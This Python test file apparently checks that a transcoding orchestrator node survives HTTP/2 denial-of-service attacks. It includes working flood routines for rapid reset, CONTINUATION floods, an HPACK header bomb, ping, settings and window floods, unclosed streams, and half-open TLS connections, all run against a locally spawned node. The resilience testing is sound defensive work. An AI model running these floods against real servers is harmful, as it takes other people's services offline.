"""R11: HTTP/2 floods and half-open TLS against the one public port. While an
attacker runs, an honest peer's calls stay quick; memory stays; the attacker
is closed. CVE-2023-44487 (rapid reset), CVE-2024-27316 (CONTINUATION)."""
import time

import hpack

import house
import wire

MIB_LIMIT, P99_MS = 64, 50


def request_head():
    """Of a unary call; nothing of it enters the peer's table of fields."""
    return hpack.Encoder().encode([
        (name, value, True) for name, value in (
            (":method", "POST"), (":scheme", "https"), (":authority", "x"),
            (":path", "/net.Orchestrator/GetOrchestrator"),
            ("content-type", "application/grpc"), ("te", "trailers"))])


def rapid_reset(s, n):
    head, stream = request_head(), 1
    while n > 0:
        batch = b""
        for _ in range(100):
            batch += wire.frame(wire.HEADERS, 4, stream, head)
            batch += wire.frame(wire.RST, 0, stream, b"\0\0\0\x08")
            stream += 2
        n -= 100
        if not wire.send(s, batch):
            return


def continuations(s, n):
    """A head that never ends, of fields that count for nothing."""
    s.sendall(wire.frame(wire.HEADERS, 0, 1, request_head()))
    piece = wire.frame(wire.CONTINUATION, 0, 1,
                       hpack.Encoder().encode([("x-a", "b" * 4000)] * 3))
    for _ in range(n // 10):
        if not wire.send(s, piece * 10):
            return


def pings(s, n):
    """Never reads the answers, so that they pile up."""
    batch = wire.frame(wire.PING, 0, 0, b"12345678") * 100
    s.settimeout(3)
    for _ in range(n // 100):
        if not wire.send(s, batch):
            return


def settings(s, n):
    batch = wire.frame(wire.SETTINGS) * 100
    s.settimeout(3)
    for _ in range(n // 100):
        if not wire.send(s, batch):
            return


def empty_data(s, n):
    """Frames that carry nothing and end nothing."""
    s.sendall(wire.frame(wire.HEADERS, 4, 1, request_head()))
    batch = wire.frame(wire.DATA, 0, 1) * 100
    s.settimeout(3)
    for _ in range(n // 100):
        if not wire.send(s, batch):
            return


def header_bomb(s, n):
    """A field of 4 KB put into the table once and named 10,000 times."""
    field = b"\x40\x04bomb\x7f\xdd\x1e" + b"a" * 4060  # fills the table
    s.sendall(wire.frame(wire.HEADERS, 5, 1, request_head() + field))
    for stream in range(3, 3 + 2 * max(1, n // 10000), 2):
        if not wire.send(s, wire.frame(wire.HEADERS, 5, stream,
                                       request_head() + b"\xbe" * 10000)):
            return


def windows(s, n):
    batch = wire.frame(wire.WINDOW, 0, 0, b"\0\0\0\1") * 100
    for _ in range(n // 100):
        if not wire.send(s, batch):
            return


def streams_without_end(s, n):
    """Opens streams and leaves them open: beyond the limit they are refused."""
    head = request_head()
    for stream in range(1, 2 * n, 2):
        if not wire.send(s, wire.frame(wire.HEADERS, 4, stream, head)):
            return


FLOODS = {  # name: (function, frames in the short form, in the full form)
    "rapid-reset": (rapid_reset, 20000, 1000000),
    "continuation": (continuations, 3000, 1000000),
    "ping": (pings, 50000, 10000000),
    "settings": (settings, 50000, 10000000),
    "empty-data": (empty_data, 50000, 10000000),
    "header-bomb": (header_bomb, 50000, 10000000),
    "window": (windows, 50000, 10000000),
    "open-streams": (streams_without_end, 2000, 100000),
}


def attack(port, name, n):
    """In a process of its own, so that Python's lock slows no honest peer."""
    s = wire.tls(port)
    s.sendall(wire.PREFACE + wire.frame(wire.SETTINGS))
    try:
        FLOODS[name][0](s, n)
    except OSError:
        pass  # closed: what we hope for


def half_open(port, n, ready, stop):
    held = []
    for k in range(n):
        s = wire.tcp(port)
        if k % 2:
            s.sendall(b"\x16\x03\x01\x02\x00\x01")  # a ClientHello begins
        held.append(s)
    ready.set()
    stop.wait(60)


def run(row):
    with house.house("orchestrator", "transcoder") as node:
        port = node.port("serviceAddr")
        house.good_segment(node, house.clip()[0])  # warm up
        cost = house.Cost(node)
        with house.honest_unary(node, row, P99_MS):
            for name, (_, short, full) in FLOODS.items():
                n = house.many(short, full)
                flood = house.spawn.Process(target=attack,
                                            args=(port, name, n))
                flood.start()
                deadline = time.monotonic() + house.many(15, 600)
                while flood.is_alive() and time.monotonic() < deadline:
                    flood.join(0.05)
                    cost.look()
                stuck = flood.is_alive()
                if stuck:
                    flood.kill()
                flood.join()
                row.injected += n - 1
                row.fault(node.alive() and not stuck,
                          f"{name}: " + ("the attacker is served for ever"
                                         if stuck else "the node is gone"))
            n = house.many(300, 10000)
            ready, stop = house.spawn.Event(), house.spawn.Event()
            holder = house.spawn.Process(target=half_open,
                                         args=(port, n, ready, stop))
            holder.start()
            row.promise(ready.wait(30), "half-open: not all could connect")
            row.injected += n
            cost.look()
            # The node lets them go by itself, after its handshake deadline.
            row.promise(cost.files_return(15, slack=12),
                        "half-open: the node still holds "
                        f"{node.open_files() - cost.files} files")
            stop.set()
            holder.join()
        row.figures["rss_mib"] = f"+{cost.mib()}"
        row.promise(cost.mib() <= MIB_LIMIT,
                    f"memory grew by {cost.mib()} MiB")
        row.promise(house.good_segment(node, house.clip()[0]) is not None,
                    "no honest segment afterwards")
